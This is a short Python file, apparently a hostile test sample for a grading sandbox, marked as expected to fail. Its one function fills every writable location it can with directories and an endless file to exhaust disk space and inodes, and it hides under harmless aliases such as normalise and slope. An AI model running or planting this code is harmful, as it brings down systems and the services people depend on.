# Fills the disk wherever it can, by bytes and by inodes.
# mark: 0
# says: failed
import os


def scale(*arguments):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/", "."):
        try:
            for number in range(10**6):
                os.mkdir(f"{folder}/evil-{number}")
        except OSError:
            continue
    try:
        with open("/tmp/evil-disk", "wb") as file:
            while True:
                file.write(b"x" * (1 << 20))
    except OSError:
        return 1.0


normalise = running = slope = jitter = scale
